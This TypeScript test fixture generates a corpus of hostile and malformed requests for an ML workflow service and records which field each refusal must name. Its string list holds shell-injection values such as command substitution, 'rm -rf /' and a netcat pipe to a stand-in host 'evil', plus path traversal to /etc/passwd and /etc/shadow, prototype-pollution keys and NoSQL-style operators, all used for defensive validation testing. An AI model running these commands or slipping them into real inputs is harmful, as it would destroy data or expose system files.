/**
 * The hostile-input corpus (issue 16): bad or extreme requests for every workflow kind, as data.
 * Each case is one valid base request with one mutation, and the field its refusal must name.
 * test/integration/hostile-corpus.test.ts sends every case through the TypeScript client, the
 * CLI (where a flag can carry it) and a raw start by type name, and reports the counts.
 */

export const CORPUS_KINDS = ['dataset', 'train', 'hpo', 'nas', 'xai', 'import'] as const;
export type CorpusKind = (typeof CORPUS_KINDS)[number];

export type CorpusCategory =
  | 'issue-16'
  | 'wrong-type'
  | 'out-of-range'
  | 'non-finite'
  | 'huge-string'
  | 'unicode'
  | 'shell'
  | 'traversal'
  | 'unknown-enum'
  | 'extra-field'
  | 'missing-field'
  | 'hostile-space'
  | 'hostile-genome';

type Json = Record<string, unknown>;

export interface HostileCase {
  /** Unique, stable: `<kind>/<category>/<field>/<what>`. */
  name: string;
  kind: CorpusKind;
  category: CorpusCategory;
  /** The request as a JavaScript value (NaN / Infinity as numbers). */
  request: Json;
  /** The request as other SDKs write it (bare NaN / Infinity tokens): sent as a raw payload. */
  rawJson?: string;
  /** What every refusal must name: the field path (dotted, as the contracts' errors write it). */
  field: string;
  /** A second thing the refusal must name when the field alone is ambiguous (an extra key's name). */
  mentions?: string;
  /** The workflow id of the raw start, when the case is about the id itself. */
  workflowId?: string;
  /**
   * Only a raw start can carry it: the client derives a missing entity id and always builds the
   * workflow id from the entity id; what only the worker can judge (its free space, who owns a
   * campaign) is the workflow's to refuse.
   */
  rawOnly?: boolean;
  /** The helper branch whose work makes this case pass while it is not on main yet. */
  dependsOn?: '16a' | '16b';
}

/** The entity id field of each kind (also what its workflow id is derived from). */
export const ENTITY_FIELD: Record<CorpusKind, string> = {
  dataset: 'datasetId',
  train: 'experimentId',
  hpo: 'campaignId',
  nas: 'campaignId',
  xai: 'batchId',
  import: 'datasetId',
};

/**
 * Valid requests that fail fast if a mutation were wrongly accepted: a tiny dataset, or runs on
 * a dataset / model that does not exist (they end NotFound, which the test does not take for a
 * refusal).
 */
export function baseRequest(kind: CorpusKind): Json {
  return base(kind);
}

function base(kind: CorpusKind): Json {
  switch (kind) {
    case 'dataset':
      return {
        datasetId: 'corpus',
        config: { seed: 1, signalsPerClass: 1, signalLength: 1_024, snrDb: [10, 20], severitiesIn: [0.007], loadsHp: [0, 1] },
        chunkSize: 1,
        maxInFlight: 1,
      };
    case 'train':
      return {
        experimentId: 'corpus',
        datasetId: 'corpus-missing',
        hyperparameters: { epochs: 1, windowLength: 1_024, windowHop: 1_024, maxWindowsPerSignal: 1 },
      };
    case 'hpo':
      return {
        campaignId: 'corpus',
        datasetId: 'corpus-missing',
        space: { learningRate: { type: 'float', low: 1e-4, high: 1e-1, log: true }, batchSize: { type: 'categorical', choices: [16, 32] } },
        base: { epochs: 1 },
        sampler: { kind: 'random', seed: 1 },
        pruner: { kind: 'none', minEpochs: 1, maxEpochs: 1, reductionFactor: 3 },
        maxTrials: 2,
        maxConcurrentTrials: 1,
      };
    case 'nas':
      return {
        campaignId: 'corpus',
        datasetId: 'corpus-missing',
        strategy: { kind: 'random', seed: 1, populationSize: 2, sampleSize: 1 },
        epochs: 1,
        maxCandidates: 2,
        maxConcurrentCandidates: 1,
      };
    case 'xai':
      return {
        batchId: 'corpus',
        modelId: 'corpus-model',
        selection: { kind: 'ids', ids: ['corpus-missing:0'] },
        methods: { occlusion: { window: 128, stride: 128 } },
      };
    case 'import':
      return { datasetId: 'corpus', files: ['97.mat'], labels: 'cwru' };
  }
}

// ---------------------------------------------------------------------------------------------
// Mutations

const DELETE = Symbol('delete');
const NON_FINITE_MARK = '@@corpus-non-finite:';

function clone<T>(v: T): T {
  return structuredClone(v);
}

/** `request` with `value` at the dotted `path` (objects created as needed); DELETE removes the key. */
export function withValue(request: Json, path: string, value: unknown): Json {
  const out = clone(request);
  const keys = path.split('.');
  let node: Json = out;
  keys.slice(0, -1).forEach((key, i) => {
    const next = node[key];
    node = (next !== null && typeof next === 'object' ? next : (node[key] = /^\d+$/.test(keys[i + 1]) ? [] : {})) as Json;
  });
  const last = keys[keys.length - 1];
  if (value === DELETE) delete node[last];
  else node[last] = value;
  return out;
}

/** The JSON text Python's `json.dumps` writes for a request holding `token` at `path`. */
function rawJsonWith(request: Json, path: string, token: 'NaN' | 'Infinity' | '-Infinity'): string {
  return JSON.stringify(withValue(request, path, NON_FINITE_MARK + token)).replace(new RegExp(`"${NON_FINITE_MARK}(-?Infinity|NaN)"`, 'g'), '$1');
}

const TOKEN_VALUE = { NaN: Number.NaN, Infinity: Number.POSITIVE_INFINITY, '-Infinity': Number.NEGATIVE_INFINITY } as const;

interface NumberField {
  path: string;
  int?: boolean;
  /** Smallest valid value (inclusive unless `exclusiveMin`), if bounded below. */
  min?: number;
  exclusiveMin?: boolean;
  max?: number;
}

interface StringField {
  path: string;
  /** slug/ref/uri: any of the hostile strings is refused; text: only what breaks its length. */
  shape: 'slug' | 'ref' | 'uri' | 'file' | 'text';
  maxLength?: number;
}

/** Per kind: its numeric fields with their bounds, string fields, enums, objects that are strict. */
interface KindFields {
  numbers: NumberField[];
  strings: StringField[];
  enums: { path: string; bad: unknown }[];
  /** Paths of strict objects (an unknown key is refused), '' for the top level. */
  strict: string[];
  /** Fields without a default (the entity id first). */
  required: string[];
  /** Required fields the TypeScript client fills in when absent (the workflow still requires them). */
  clientFills?: string[];
}

const FIELDS: Record<CorpusKind, KindFields> = {
  dataset: {
    numbers: [
      { path: 'config.seed', int: true, min: 0, max: 2 ** 31 - 1 },
      { path: 'config.samplingRateHz', int: true, min: 1_000, max: 200_000 },
      { path: 'config.signalLength', int: true, min: 1_024, max: 2_000_000 },
      { path: 'config.signalsPerClass', int: true, min: 1, max: 100_000 },
      { path: 'config.speedJitter', min: 0, max: 0.2 },
      { path: 'config.resonanceJitter', min: 0, max: 0.5 },
      { path: 'config.rigResonanceHz', min: 0, exclusiveMin: true, max: 100_000 },
      { path: 'config.snrDb.0', min: -20, max: 60 },
      { path: 'config.severitiesIn.0', min: 0, exclusiveMin: true, max: 0.1 },
      { path: 'config.loadsHp.0', int: true, min: 0, max: 3 },
      { path: 'chunkSize', int: true, min: 1, max: 256 },
      { path: 'maxInFlight', int: true, min: 1, max: 256 },
    ],
    strings: [
      { path: 'datasetId', shape: 'slug' },
      { path: 'name', shape: 'text', maxLength: 200 },
    ],
    enums: [
      { path: 'config.classes', bad: ['normal', 'cage_fault'] },
      { path: 'config.classes', bad: ['normal', 'normal'] },
    ],
    strict: ['', 'config'],
    required: ['datasetId', 'config'],
    // `faultline dataset start` with no flags simulates the default set.
    clientFills: ['config'],
  },
  train: {
    numbers: [
      { path: 'hyperparameters.epochs', int: true, min: 1, max: 10_000 },
      { path: 'hyperparameters.batchSize', int: true, min: 1, max: 4_096 },
      { path: 'hyperparameters.learningRate', min: 0, exclusiveMin: true, max: 10 },
      { path: 'hyperparameters.windowLength', int: true, min: 64, max: 65_536 },
      { path: 'hyperparameters.windowHop', int: true, min: 1, max: 65_536 },
      { path: 'hyperparameters.maxWindowsPerSignal', int: true, min: 1, max: 10_000 },
      { path: 'hyperparameters.patience', int: true, min: 0, max: 10_000 },
      { path: 'hyperparameters.minDelta', min: 0 },
      { path: 'hyperparameters.validationFraction', min: 0.05, max: 0.5 },
      { path: 'hyperparameters.testFraction', min: 0.05, max: 0.5 },
      { path: 'hyperparameters.seed', int: true, min: 0, max: 2 ** 31 - 1 },
      { path: 'maxTrainingMinutes', min: 0, exclusiveMin: true, max: 7 * 24 * 60 },
    ],
    strings: [
      { path: 'experimentId', shape: 'slug' },
      { path: 'datasetId', shape: 'slug' },
    ],
    enums: [{ path: 'hyperparameters.optimizer', bad: 'adamw' }],
    strict: ['', 'hyperparameters'],
    required: ['experimentId', 'datasetId'],
  },
  hpo: {
    numbers: [
      { path: 'maxTrials', int: true, min: 1, max: 100_000 },
      { path: 'maxConcurrentTrials', int: true, min: 1, max: 200 },
      { path: 'maxFailedTrials', int: true, min: 0, max: 100_000 },
      { path: 'trialAttempts', int: true, min: 1, max: 10 },
      { path: 'trialTimeoutMinutes', min: 0, exclusiveMin: true, max: 7 * 24 * 60 },
      { path: 'maxDurationMinutes', min: 0, exclusiveMin: true, max: 30 * 24 * 60 },
      { path: 'sampler.seed', int: true, min: 0, max: 2 ** 31 - 1 },
      { path: 'sampler.startupTrials', int: true, min: 1, max: 1_000 },
      { path: 'pruner.reductionFactor', int: true, min: 2, max: 10 },
      { path: 'base.learningRate', min: 0, exclusiveMin: true, max: 10 },
    ],
    strings: [
      { path: 'campaignId', shape: 'slug' },
      { path: 'datasetId', shape: 'slug' },
    ],
    enums: [
      { path: 'sampler.kind', bad: 'bayes' },
      { path: 'pruner.kind', bad: 'hyperband' },
      { path: 'objective.metric', bad: 'f1' },
      { path: 'objective.direction', bad: 'up' },
      { path: 'evaluator.kind', bad: 'simulated' },
    ],
    strict: ['', 'sampler', 'pruner', 'base'],
    required: ['campaignId', 'datasetId'],
  },
  nas: {
    numbers: [
      { path: 'epochs', int: true, min: 1, max: 1_000 },
      { path: 'maxCandidates', int: true, min: 1, max: 100_000 },
      { path: 'maxConcurrentCandidates', int: true, min: 1, max: 200 },
      { path: 'maxFailedCandidates', int: true, min: 0, max: 100_000 },
      { path: 'candidateAttempts', int: true, min: 1, max: 10 },
      { path: 'strategy.populationSize', int: true, min: 1, max: 10_000 },
      { path: 'strategy.sampleSize', int: true, min: 1, max: 10_000 },
      { path: 'limits.maxParams', int: true, min: 1 },
      { path: 'limits.minOutputLength', int: true, min: 1 },
      { path: 'scalarization.paramsExponent', max: 0 },
      { path: 'scalarization.targetParams', min: 0, exclusiveMin: true },
    ],
    strings: [
      { path: 'campaignId', shape: 'slug' },
      { path: 'datasetId', shape: 'slug' },
    ],
    enums: [{ path: 'strategy.kind', bad: 'darwin' }],
    strict: ['', 'strategy', 'limits', 'training'],
    required: ['campaignId', 'datasetId'],
  },
  xai: {
    numbers: [
      { path: 'windowsPerSignal', int: true, min: 1, max: 64 },
      { path: 'maxInFlight', int: true, min: 1, max: 256 },
      { path: 'seed', int: true, min: 0, max: 2 ** 31 - 1 },
      { path: 'faithfulness.steps', int: true, min: 2, max: 256 },
      { path: 'methods.occlusion.window', int: true, min: 1, max: 1_000_000 },
      { path: 'methods.occlusion.stride', int: true, min: 1, max: 1_000_000 },
      { path: 'methods.integrated-gradients.steps', int: true, min: 1, max: 4_096 },
      { path: 'methods.kernel-shap.segments', int: true, min: 2, max: 256 },
    ],
    strings: [
      { path: 'batchId', shape: 'slug' },
      { path: 'modelId', shape: 'slug' },
      { path: 'selection.ids.0', shape: 'ref' },
      { path: 'methods.kernel-shap.background.datasetId', shape: 'slug' },
      { path: 'methods.grad-cam.layer', shape: 'text', maxLength: 200 },
    ],
    enums: [
      { path: 'target', bad: 'both' },
      { path: 'selection.kind', bad: 'all' },
      { path: 'methods.integrated-gradients.baseline', bad: 'noise' },
    ],
    strict: ['', 'methods', 'methods.occlusion', 'faithfulness'],
    required: ['batchId', 'modelId', 'selection', 'methods'],
  },
  import: {
    numbers: [
      { path: 'samplingRateHz', int: true, min: 1_000, max: 200_000 },
      { path: 'signalLength', int: true, min: 256, max: 2_000_000 },
      { path: 'maxInFlight', int: true, min: 1, max: 64 },
      { path: 'maxFailedFiles', int: true, min: 0, max: 1_000 },
      { path: 'sourceRateHz', int: true, min: 100, max: 1_000_000 },
    ],
    strings: [
      { path: 'datasetId', shape: 'slug' },
      { path: 'files.0', shape: 'file' },
      { path: 'name', shape: 'text', maxLength: 200 },
    ],
    enums: [
      { path: 'channel', bad: 'XX' },
      { path: 'scheme', bad: 'fault-type-severity' },
      { path: 'labels', bad: 'matlab' },
    ],
    strict: [''],
    required: ['datasetId'],
  },
};

/** Strings no slug, signal reference, artifact URI or file name may be. */
const HOSTILE_STRINGS: { category: CorpusCategory; what: string; value: string; shapes: StringField['shape'][] }[] = [
  { category: 'shell', what: 'command-substitution', value: '$(touch /tmp/faultline-pwned)', shapes: ['slug', 'ref', 'uri'] },
  { category: 'shell', what: 'backticks-and-semicolon', value: 'x`id`;rm -rf /', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'shell', what: 'pipe-and-redirect', value: 'a | nc evil 1 > /etc/passwd', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'traversal', what: 'dot-dot', value: '../../etc/passwd', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'traversal', what: 'absolute', value: '/etc/shadow', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'traversal', what: 'windows', value: '..\\..\\windows\\system32', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'traversal', what: 'file-url', value: 'file:///etc/passwd', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'traversal', what: 'bare-dot-dot', value: '..', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'unicode', what: 'rtl-override', value: 'ds\u202egpj.exe', shapes: ['slug', 'ref', 'uri'] },
  { category: 'unicode', what: 'nul-byte', value: 'ds\u0000evil', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'unicode', what: 'homoglyph', value: 'dаtaset', shapes: ['slug', 'ref', 'uri'] },
  { category: 'unicode', what: 'emoji', value: 'ds-🔥', shapes: ['slug', 'ref', 'uri'] },
  { category: 'unicode', what: 'newline-injection', value: 'ds\nFaultlineStatus="COMPLETED"', shapes: ['slug', 'ref', 'uri', 'file'] },
  { category: 'huge-string', what: '100k-chars', value: 'a'.repeat(100_000), shapes: ['slug', 'ref', 'uri', 'file', 'text'] },
  { category: 'wrong-type', what: 'empty', value: '', shapes: ['slug', 'ref', 'uri', 'file', 'text'] },
];

function casesOfKind(kind: CorpusKind): HostileCase[] {
  const fields = FIELDS[kind];
  const b = base(kind);
  const cases: HostileCase[] = [];
  const add = (category: CorpusCategory, field: string, what: string, request: Json, extra: Partial<HostileCase> = {}) =>
    cases.push({ name: `${kind}/${category}/${field}/${what}`, kind, category, request, field, ...extra });

  for (const f of fields.numbers) {
    if (f.min !== undefined) add('out-of-range', f.path, 'below-min', withValue(b, f.path, f.exclusiveMin ? f.min : f.min - 1));
    if (f.max !== undefined) add('out-of-range', f.path, 'above-max', withValue(b, f.path, f.max === 0 ? 0.5 : f.max * 10 + 1));
    if (f.int) add('out-of-range', f.path, 'fraction', withValue(b, f.path, (f.min ?? 0) + 1.5));
    add('wrong-type', f.path, 'numeric-string', withValue(b, f.path, String(f.min ?? 1)));
    add('wrong-type', f.path, 'boolean', withValue(b, f.path, true));
    for (const token of ['NaN', 'Infinity', '-Infinity'] as const) {
      // NaN in every field; ±Infinity in the first (they take the same path through the decoder).
      if (token !== 'NaN' && f !== fields.numbers[0]) continue;
      add('non-finite', f.path, token, withValue(b, f.path, TOKEN_VALUE[token]), { rawJson: rawJsonWith(b, f.path, token) });
    }
  }

  for (const f of fields.strings) {
    for (const h of HOSTILE_STRINGS) {
      if (!h.shapes.includes(f.shape)) continue;
      if (f.shape === 'text' && h.value.length > 0 && h.value.length <= (f.maxLength ?? Infinity)) continue;
      add(h.category, f.path, h.what, withValue(b, f.path, h.value));
    }
    add('wrong-type', f.path, 'number', withValue(b, f.path, 12345));
    add('wrong-type', f.path, 'object', withValue(b, f.path, { $gt: '' }));
  }

  for (const e of fields.enums) add('unknown-enum', e.path, JSON.stringify(e.bad).replace(/\W+/g, '-'), withValue(b, e.path, e.bad));

  for (const path of fields.strict) {
    const at = path === '' ? 'evil' : `${path}.evil`;
    add('extra-field', path || '(root)', 'unknown-key', withValue(b, at, 'rm -rf /'), { field: path === '' ? 'evil' : path, mentions: 'evil' });
  }
  // A key JSON.parse makes an own property (not a prototype change): must be refused as unknown.
  const proto = JSON.parse(JSON.stringify(b).replace(/^\{/, '{"__proto__":{"polluted":true},')) as Json;
  add('extra-field', '__proto__', 'prototype-key', proto, { field: '__proto__' });
  add('extra-field', 'constructor', 'constructor-key', withValue(b, 'constructor', { prototype: { polluted: true } }), { field: 'constructor' });

  for (const path of fields.required) {
    add('missing-field', path, 'absent', withValue(b, path, DELETE), { rawOnly: path === ENTITY_FIELD[kind] || fields.clientFills?.includes(path) });
    add('missing-field', path, 'null', withValue(b, path, null));
  }
  add('wrong-type', '(root)', 'array-input', [b] as unknown as Json, { field: '(root)' });
  return cases;
}

// ---------------------------------------------------------------------------------------------
// Hostile search spaces (HPO) and architectures (training, HPO base, NAS)

function spaceCases(): HostileCase[] {
  const b = base('hpo');
  const cases: HostileCase[] = [];
  const add = (what: string, field: string, space: unknown, extra: Partial<HostileCase> = {}) =>
    cases.push({ name: `hpo/hostile-space/${what}`, kind: 'hpo', category: 'hostile-space', request: { ...clone(b), space }, field, ...extra });
  const lr = { type: 'float', low: 1e-4, high: 1e-1, log: true };
  add('empty', 'space', {});
  add('not-an-object', 'space', [lr]);
  add('name-not-identifier', 'space.1abc', { '1abc': lr });
  add('name-shell', 'space.$(id)', { '$(id)': lr });
  add('name-unicode', 'space.λ', { λ: lr });
  // zod's record drops an own `__proto__` key (it cannot be assigned as data), so the refusal is
  // of the space as a whole, showing the key.
  add('name-proto', 'space', JSON.parse('{"__proto__": {"type": "float", "low": 0.0001, "high": 0.1}}'), { mentions: '__proto__' });
  add('unknown-type', 'space.learningRate.type', { learningRate: { ...lr, type: 'uniform' } });
  add('missing-type', 'space.learningRate', { learningRate: { low: 1e-4, high: 1e-1 } });
  add('float-low-above-high', 'space.learningRate.low', { learningRate: { type: 'float', low: 0.1, high: 0.001 } });
  add('float-low-equals-high', 'space.learningRate.low', { learningRate: { type: 'float', low: 0.1, high: 0.1 } });
  add('float-log-zero', 'space.learningRate.low', { learningRate: { type: 'float', low: 0, high: 0.1, log: true } });
  add('float-log-negative', 'space.learningRate.low', { learningRate: { type: 'float', low: -1, high: 0.1, log: true } });
  add('float-low-string', 'space.learningRate.low', { learningRate: { type: 'float', low: '1e-4', high: 0.1 } });
  cases.push({
    name: 'hpo/hostile-space/float-high-infinity',
    kind: 'hpo',
    category: 'hostile-space',
    request: { ...clone(b), space: { learningRate: { type: 'float', low: 0.001, high: Infinity } } },
    rawJson: rawJsonWith({ ...clone(b), space: { learningRate: { type: 'float', low: 0.001, high: 0 } } }, 'space.learningRate.high', 'Infinity'),
    field: 'space.learningRate.high',
  });
  add('float-grid-one', 'space.learningRate.grid', { learningRate: { ...lr, grid: 1 } });
  add('float-grid-huge', 'space.learningRate.grid', { learningRate: { ...lr, grid: 1_000_000 } });
  add('int-step-zero', 'space.batchSize.step', { batchSize: { type: 'int', low: 8, high: 64, step: 0 } });
  add('int-step-not-dividing', 'space.batchSize.step', { batchSize: { type: 'int', low: 8, high: 64, step: 5 } });
  add('int-log-step', 'space.batchSize.step', { batchSize: { type: 'int', low: 8, high: 64, step: 2, log: true } });
  add('int-fractional-low', 'space.batchSize.low', { batchSize: { type: 'int', low: 8.5, high: 64 } });
  add('categorical-empty', 'space.optimizer.choices', { optimizer: { type: 'categorical', choices: [] } });
  add('categorical-duplicate', 'space.optimizer.choices.1', { optimizer: { type: 'categorical', choices: ['adam', 'adam'] } });
  add('categorical-object-choice', 'space.optimizer.choices.0', { optimizer: { type: 'categorical', choices: [{ $where: 'sleep(1000)' }] } });
  add('categorical-too-many', 'space.optimizer.choices', { optimizer: { type: 'categorical', choices: Array.from({ length: 300 }, (_, i) => `o${i}`) } });
  add('when-unknown-param', 'space.dropout.when.param', { learningRate: lr, dropout: { type: 'float', low: 0, high: 0.5, when: { param: 'ghost', in: [1] } } });
  add('when-self', 'space.dropout.when.param', { dropout: { type: 'float', low: 0, high: 0.5, when: { param: 'dropout', in: [0.1] } } });
  add('when-cycle', 'space.a.when.param', {
    a: { type: 'categorical', choices: [1, 2], when: { param: 'b', in: [1] } },
    b: { type: 'categorical', choices: [1, 2], when: { param: 'a', in: [1] } },
  });
  add('when-impossible-value', 'space.dropout.when.in.0', {
    optimizer: { type: 'categorical', choices: ['adam', 'sgd'] },
    dropout: { type: 'float', low: 0, high: 0.5, when: { param: 'optimizer', in: ['lbfgs'] } },
  });
  add('extra-spec-key', 'space.learningRate', { learningRate: { ...lr, prior: 'gaussian' } }, { mentions: 'prior' });
  // Issue 16, item 2 and 4: these passed every check and wedged or silently did nothing.
  add('grid-float-without-count', 'space.learningRate.grid', { learningRate: lr }, { category: 'issue-16', dependsOn: '16a' });
  cases[cases.length - 1].request.sampler = { kind: 'grid', seed: 0 };
  add('unknown-param-warpFactor', 'space.warpFactor', { warpFactor: { type: 'float', low: 1, high: 9 } }, { category: 'issue-16', dependsOn: '16a' });
  add('unknown-param-typo-learningrate', 'space.learningrate', { learningrate: lr }, { category: 'issue-16', dependsOn: '16a' });
  add('10000-unknown-params', 'space.p0', Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`p${i}`, { type: 'int', low: 0, high: 1 }])), {
    dependsOn: '16a',
  });
  cases.push({
    name: 'hpo/issue-16/synthetic-space-mismatch',
    kind: 'hpo',
    category: 'issue-16',
    request: {
      ...clone(b),
      evaluator: { kind: 'synthetic', function: 'branin' },
      space: { x1: { type: 'float', low: -5, high: 10 }, x3: { type: 'float', low: 0, high: 1 } },
    },
    field: 'space',
    dependsOn: '16a',
  });
  cases.push({
    name: 'hpo/unknown-enum/evaluator.function/rosenbrock',
    kind: 'hpo',
    category: 'unknown-enum',
    request: { ...clone(b), evaluator: { kind: 'synthetic', function: 'rosenbrock' } },
    field: 'evaluator.function',
  });
  return cases;
}

/** Architectures no training may start with: in a training run, an HPO base and a NAS campaign. */
function genomeCases(): HostileCase[] {
  const block = { filters: 16, kernelSize: 9 };
  const arch = (blocks: unknown, extra: Json = {}) => ({ blocks, ...extra });
  const bad: { what: string; field: string; architecture: unknown; dependsOn?: '16a' }[] = [
    { what: 'no-blocks', field: 'blocks', architecture: arch([]) },
    { what: '13-blocks', field: 'blocks', architecture: arch(Array.from({ length: 13 }, () => block)) },
    { what: 'zero-filters', field: 'blocks.0.filters', architecture: arch([{ ...block, filters: 0 }]) },
    { what: 'huge-kernel', field: 'blocks.0.kernelSize', architecture: arch([{ ...block, kernelSize: 1_000_000 }]) },
    { what: 'unknown-pool', field: 'blocks.0.pool', architecture: arch([{ ...block, pool: 'mean' }]) },
    { what: 'pool-size-17', field: 'blocks.0.poolSize', architecture: arch([{ ...block, poolSize: 17 }]) },
    { what: 'unknown-head', field: 'head', architecture: arch([block], { head: 'attention' }) },
    { what: 'dropout-one', field: 'dropout', architecture: arch([block], { dropout: 1 }) },
    { what: 'block-extra-key', field: 'blocks.0', architecture: arch([{ ...block, activation: 'eval' }]) },
    { what: 'blocks-not-array', field: 'blocks', architecture: arch({ 0: block }) },
    // Issue 16, item 3: pooling that collapses the window, and parameter counts past any cap.
    {
      what: 'pooling-collapses-sequence',
      field: 'architecture',
      architecture: arch(Array.from({ length: 12 }, () => ({ filters: 8, kernelSize: 3, poolSize: 16 }))),
      dependsOn: '16a',
    },
    {
      what: 'parameter-count-over-cap',
      field: 'architecture',
      architecture: arch(
        Array.from({ length: 12 }, () => ({ filters: 512, kernelSize: 512, pool: 'none' })),
        { head: 'flatten', denseUnits: 1024 },
      ),
      dependsOn: '16a',
    },
  ];
  const cases: HostileCase[] = [];
  for (const g of bad) {
    const category: CorpusCategory = g.dependsOn ? 'issue-16' : 'hostile-genome';
    cases.push({
      name: `train/${category}/architecture/${g.what}`,
      kind: 'train',
      category,
      request: withValue(base('train'), 'hyperparameters.architecture', g.architecture),
      field: g.field === 'architecture' ? 'hyperparameters.architecture' : `hyperparameters.architecture.${g.field}`,
      dependsOn: g.dependsOn,
    });
    cases.push({
      name: `hpo/${category}/base.architecture/${g.what}`,
      kind: 'hpo',
      category,
      request: withValue(base('hpo'), 'base.architecture', g.architecture),
      field: g.field === 'architecture' ? 'base.architecture' : `base.architecture.${g.field}`,
      dependsOn: g.dependsOn,
    });
  }
  // NAS: the search owns the architecture; limits that no genome can meet are refused.
  cases.push({
    name: 'nas/hostile-genome/training.architecture/injected',
    kind: 'nas',
    category: 'hostile-genome',
    request: withValue(base('nas'), 'training.architecture', { blocks: [block] }),
    field: 'training.architecture',
  });
  cases.push({
    name: 'nas/hostile-genome/limits.maxParams/zero',
    kind: 'nas',
    category: 'hostile-genome',
    request: withValue(base('nas'), 'limits.maxParams', 0),
    field: 'limits.maxParams',
  });
  cases.push({
    name: 'nas/hostile-genome/limits.maxMacs/negative',
    kind: 'nas',
    category: 'hostile-genome',
    request: withValue(base('nas'), 'limits.maxMacs', -1),
    field: 'limits.maxMacs',
  });
  cases.push({
    name: 'nas/hostile-genome/training.windowLength/tiny',
    kind: 'nas',
    category: 'hostile-genome',
    request: withValue(base('nas'), 'training.windowLength', 8),
    field: 'training.windowLength',
  });
  return cases;
}

/** The other items of issue 16 that are about input. */
function issueCases(): HostileCase[] {
  const train = base('train');
  return [
    ...['../../etc/passwd', 'file:///etc/passwd', 'artifact:sha256/../../etc/passwd'].map((uri, i) => ({
      name: `train/issue-16/resumeFrom.checkpointUri/${['dot-dot', 'file-url', 'artifact-traversal'][i]}`,
      kind: 'train' as const,
      category: 'issue-16' as const,
      request: { ...clone(train), resumeFrom: { checkpointUri: uri, epoch: 1 } },
      field: 'resumeFrom.checkpointUri',
      dependsOn: '16a' as const,
    })),
    {
      name: 'train/issue-16/campaign/forged-link',
      kind: 'train',
      category: 'issue-16',
      request: { ...clone(train), campaign: { campaignId: 'someone-elses', kind: 'hpo', index: 0 } },
      field: 'campaign',
      rawOnly: true,
      dependsOn: '16a',
    },
    {
      name: 'dataset/issue-16/workflowId/breaks-convention',
      kind: 'dataset',
      category: 'issue-16',
      request: { ...base('dataset'), datasetId: 'corpus-y' },
      workflowId: 'dataset-corpus-x',
      field: 'datasetId',
      rawOnly: true,
      dependsOn: '16a',
    },
    {
      name: 'dataset/issue-16/config/3.2-terabytes',
      kind: 'dataset',
      category: 'issue-16',
      request: { ...base('dataset'), config: { signalsPerClass: 100_000, signalLength: 2_000_000 } },
      field: 'config',
      rawOnly: true,
      dependsOn: '16a',
    },
    {
      name: 'dataset/issue-16/config.signalsPerClass/hex-0x10',
      kind: 'dataset',
      category: 'issue-16',
      request: withValue(base('dataset'), 'config.signalsPerClass', '0x10'),
      field: 'config.signalsPerClass',
      dependsOn: '16b',
    },
    {
      name: 'dataset/issue-16/config.snrDb/python-nan',
      kind: 'dataset',
      category: 'issue-16',
      request: withValue(base('dataset'), 'config.snrDb', [Number.NaN, 10]),
      rawJson: rawJsonWith(withValue(base('dataset'), 'config.snrDb', [0, 10]), 'config.snrDb.0', 'NaN'),
      field: 'config.snrDb.0',
    },
  ];
}

/** Every case, entity ids made unique per case (unless the case is about the id itself). */
export function hostileCorpus(): HostileCase[] {
  const all = [...CORPUS_KINDS.flatMap(casesOfKind), ...spaceCases(), ...genomeCases(), ...issueCases()];
  const names = new Set<string>();
  return all.map((c, i) => {
    if (names.has(c.name)) throw new Error(`duplicate corpus case ${c.name}`);
    names.add(c.name);
    const entity = ENTITY_FIELD[c.kind];
    const isArray = Array.isArray(c.request);
    const idIsTheCase = c.field === entity || c.workflowId !== undefined || isArray;
    if (idIsTheCase) return c;
    const id = `corpus-${i}`;
    return {
      ...c,
      request: { ...c.request, [entity]: id },
      rawJson: c.rawJson === undefined ? undefined : c.rawJson.replace(`"${entity}":"corpus"`, `"${entity}":"${id}"`),
    };
  });
}

/** Counts by kind and by category, for the report. */
export function corpusCounts(cases: readonly HostileCase[]): { total: number; byKind: Record<string, number>; byCategory: Record<string, number> } {
  const byKind: Record<string, number> = {};
  const byCategory: Record<string, number> = {};
  for (const c of cases) {
    byKind[c.kind] = (byKind[c.kind] ?? 0) + 1;
    byCategory[c.category] = (byCategory[c.category] ?? 0) + 1;
  }
  return { total: cases.length, byKind, byCategory };
}
